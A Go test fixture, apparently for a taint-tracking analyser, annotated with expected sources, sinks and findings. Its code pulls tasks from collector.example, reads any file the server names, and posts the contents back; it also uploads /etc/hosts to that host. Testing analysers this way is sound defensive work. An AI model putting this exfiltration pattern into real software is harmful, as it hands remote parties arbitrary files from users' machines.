package main

// Who makes what is looked up by name: the type of what functions in a table give is in the type of the table.

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
)

type Plugin interface{ Collect(arg string) []byte }
type Factory func() Plugin

var plugins = map[string]Factory{}

func Register(name string, factory Factory) { plugins[name] = factory }

type files struct{}

func (f *files) Collect(arg string) []byte {
	data, _ := os.ReadFile(arg) //~ source(FILE) f1
	return data
}

type lengths struct{}

func (l *lengths) Collect(arg string) []byte { return []byte{byte(len(arg))} }

func init() {
	Register("files", func() Plugin { return &files{} })
	Register("lengths", func() Plugin { return &lengths{} })
}

type task struct{ Name, Arg string }

func poll() {
	answer, _ := http.Get("https://collector.example/task")
	body, _ := io.ReadAll(answer.Body)
	var next task
	json.Unmarshal(body, &next)
	plugin := plugins[next.Name]()
	http.Post("https://collector.example/out", "x", bytes.NewReader(plugin.Collect(next.Arg))) //~ sink(egress.http) f1, finding(ambiguous) f1
}

// Functions whose type has no name, and that give an error besides.
type Reader interface{ Content() []byte }

type hosts struct{}

func (h hosts) Content() []byte {
	data, _ := os.ReadFile("/etc/hosts") //~ source(FILE) f2
	return data
}

type settings struct {
	open func() (Reader, error)
	size func() int
}

func send(s *settings) {
	reader, err := s.open()
	if err == nil {
		http.Post("https://collector.example/hosts", "x", bytes.NewReader(reader.Content())) //~ sink(egress.http) f2, finding(traced) f2
	}
	http.Post("https://collector.example/size", "x", bytes.NewReader([]byte{byte(s.size())})) //~ ok
}

func main() {
	poll()
	send(&settings{open: func() (Reader, error) { return hosts{}, nil }, size: func() int { return 1 }})
}
